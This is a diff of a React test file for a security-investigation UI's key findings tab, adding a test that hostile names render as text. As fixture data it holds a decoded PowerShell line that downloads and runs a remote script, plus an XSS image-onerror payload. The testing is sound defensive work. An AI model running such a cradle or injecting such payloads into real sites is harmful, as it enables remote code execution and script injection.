@@ -1,19 +1,19 @@
 import { afterEach, describe, expect, it, vi } from "vitest";
 import { cleanup, fireEvent, render, screen, waitFor, within } from "@testing-library/react";
 import { BackendError } from "../../backend";
-import { fakeBackend, psexecInvestigation, WRITTEN_FILES } from "../../testing/fakeBackend";
-import { KeyFindings } from "./KeyFindings";
+import { details, entity, fakeBackend, psexecInvestigation, WRITTEN_FILES } from "../../testing/fakeBackend";
+import { KeyFindingsTab } from "./KeyFindingsTab";
 
 afterEach(cleanup);
 
 const show = (backend = fakeBackend(), d = psexecInvestigation()) => {
   const onChanged = vi.fn();
-  render(<KeyFindings backend={backend} d={d} focus={null} onChanged={onChanged} />);
+  render(<KeyFindingsTab backend={backend} d={d} focus={null} onChanged={onChanged} />);
   return { backend, onChanged };
 };
 const finding = (id: number) => document.querySelector(`[data-finding="${id}"]`) as HTMLElement;
 
-describe("KeyFindings", () => {
+describe("KeyFindingsTab", () => {
   it("ranks the culprit first and says what it is, why, and what is known of it", () => {
     show();
     const rows = [...screen.getByTestId("key-findings").children];
@@ -99,5 +99,15 @@ describe("KeyFindings", () => {
     const script = finding(103);
     expect(within(script).queryByTestId("remediate")).toBeNull();
     expect(script.textContent).toContain("decoded: IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a.ps1')");
+  });
+
+  it("renders hostile facts and finding names as text", async () => {
+    const hostile = "<img src=x onerror=window.__pwned=1>";
+    const evil = entity({ id: 30, verdict: "suspicious", name: hostile, facts: [{ label: "<i>by</i>", value: hostile }], remediation_status: "none" });
+    show(fakeBackend(), details({ key_findings: [evil], entities: [evil], actions: [], pending_actions: [] }));
+    expect((await screen.findAllByText(hostile)).length).toBe(2);
+    expect(screen.getByText("<i>by</i>:")).toBeTruthy();
+    expect(document.querySelector("img")).toBeNull();
+    expect(document.querySelector("i")).toBeNull();
   });
 });
